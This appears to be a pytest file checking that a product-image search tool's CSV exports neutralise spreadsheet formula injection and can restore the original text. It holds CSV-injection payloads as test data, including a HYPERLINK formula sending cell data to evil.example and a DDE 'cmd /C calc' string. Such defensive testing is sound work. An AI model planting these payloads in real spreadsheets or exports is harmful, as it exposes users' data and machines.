"""CSV exports are inert: no cell of any table that lookalike writes begins as a formula, whatever titles, names and
columns the catalog has and whatever a query's file is called; and each text can be had back as it was."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from io import StringIO
from pathlib import Path

import numpy as np
import pytest
from playwright.sync_api import Browser

from catalog.config import ScanConfig
from catalog.csv_text import as_it_was, inert
from catalog.quarantine import read_quarantine
from catalog.scan import scan
from catalog.store import Store
from index.build import build_version
from index.config import IndexConfig
from search.batch import search_batch
from search.compare import compare
from search.compare_config import CompareConfig
from search.config import RelatedConfig, SearchConfig
from search.duplicates import find_duplicates
from search.duplicates_config import DuplicatesConfig
from search.duplicates_table import read_groups
from search.related import related
from search.tag import tag
from search.tag_config import TagConfig
from tests.conftest import draw_photo
from tests.small_run import leave_start
from training.evaluation.classification import Classification
from ui.static_files import static

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"sale")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "a\r=1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
)
COLUMN = "=1+1"
"""A column's own name."""
RUN = re.compile("[=+\\-@\t\r\n＝＋－＠]")
NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Products whose every text is a formula, two of them the same photo; two versions; two files left out."""
    folder = tmp_path_factory.mktemp("photos")
    with (folder / "products.csv").open("w", newline="", encoding="utf-8") as file:
        table = csv.writer(file)
        table.writerow(("path", "item_id", "title", COLUMN))
        for number, formula in enumerate(FORMULAS):
            draw_photo(number).save(folder / f"={number}.png")
            table.writerow((f"={number}.png", f"={number}", formula, formula if number % 2 else ""))
        shutil.copyfile(folder / "=0.png", folder / "-copy.png")
        table.writerow(("-copy.png", "@copy", "@copy", "@copy"))
        for name in ("=broken.png", "@broken.png"):
            (folder / name).write_bytes(b"no photo")
            table.writerow((name, name, name, ""))
    root = tmp_path_factory.mktemp("store") / "store"
    scan(ScanConfig(catalog=folder / "products.csv", store=root))
    leave_start(Store.open(root))
    for _ in range(2):
        build_version(IndexConfig(store=root, encoder="imagenet", device="cpu", force=True))
    return root


def cells(text: str) -> list[list[str]]:
    """The rows of a CSV, the header first; none of it begins as a formula."""
    rows = list(csv.reader(StringIO(text, newline="")))
    assert len(rows) > 1
    for cell in (cell for row in rows for cell in row):
        assert not RUN.match(cell) or NUMBER.fullmatch(cell), cell
    return rows


def test_every_table_of_the_command_line(store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    query = Path("=query.png")
    draw_photo(3).save(query)
    output = str(tmp_path / "table.csv")
    write: dict[str, Callable[[], object]] = {
        "search": lambda: search_batch(SearchConfig(store=store, queries=(query,), output=output, device="cpu")),
        "related": lambda: related(RelatedConfig(store=store, output=output, device="cpu")),
        "duplicates": lambda: find_duplicates(DuplicatesConfig(store=store, output=output, device="cpu")),
        "tag": lambda: tag(TagConfig(store=store, column=COLUMN, output=output, device="cpu")),
        "compare": lambda: compare(CompareConfig(store=store, output=output, device="cpu")),
    }
    for command, run in write.items():
        run()
        rows = cells(Path(output).read_bytes().decode())
        texts = {as_it_was(cell) for row in rows for cell in row}
        assert texts & {f"={number}" for number in range(len(FORMULAS))}, command
        if command in ("search", "related"):
            assert COLUMN in {as_it_was(name) for name in rows[0]} and texts & set(FORMULAS)
        if command == "search":
            assert "=query.png" in texts
        if command == "duplicates":
            (group,) = read_groups(Path(output), offset=0, limit=9).groups
            assert {(member.item_id, member.path) for member in group.members} == {
                ("=0", "=0.png"),
                ("@copy", "-copy.png"),
            }


def test_answers_on_stdout(store: Path) -> None:
    command = [sys.executable, "-m", "search", "search", "--store", str(store), "--products", "=3", "--output", "-"]
    done = subprocess.run([*command, "--device", "cpu"], capture_output=True, check=True)
    assert "'=3" in {cell for row in cells(done.stdout.decode()) for cell in row}


def test_the_files_left_out(store: Path) -> None:
    rows = cells(Store.open(store).quarantine_file.read_bytes().decode())
    assert [row[0] for row in rows] == ["path", "'=broken.png", "'@broken.png"]
    assert {file.path for file in read_quarantine(Store.open(store).quarantine_file)} == {"=broken.png", "@broken.png"}


def test_the_table_of_an_evaluation(tmp_path: Path) -> None:
    labels = np.array(FORMULAS)
    Classification(truth=labels, predicted=labels, learned=labels).write_confusion(tmp_path / "confusion.csv")
    rows = cells((tmp_path / "confusion.csv").read_bytes().decode())
    assert {as_it_was(cell) for cell in rows[0][1:]} == {as_it_was(row[0]) for row in rows[1:]} == set(FORMULAS)


def test_every_text_comes_back_as_it_was() -> None:
    for text in (*FORMULAS, "", "'", "''", "plain", "'plain", "a=b", "5", "é"):
        assert as_it_was(inert(text)) == text
        assert (inert(text) == text) == (not RUN.match(text.lstrip("'")))
    for number in (-1.5, 7, None, True):
        assert inert(number) is number


def test_the_pages_own_table(browser: Browser) -> None:
    page = browser.new_page()
    page.evaluate("window.lookalike = {}")
    page.add_script_tag(content=static("csv.js"))
    matches = [{"rank": 1, "item_id": text, "path": text, "columns": {COLUMN: text, "n": -3}} for text in FORMULAS]
    rows = cells(page.evaluate("(matches) => lookalike.csv.text(matches)", matches))
    assert as_it_was(rows[0][5]) == COLUMN and {row[6] for row in rows[1:]} == {"-3"}
    assert [as_it_was(row[5]) for row in rows[1:]] == list(FORMULAS)
    page.close()
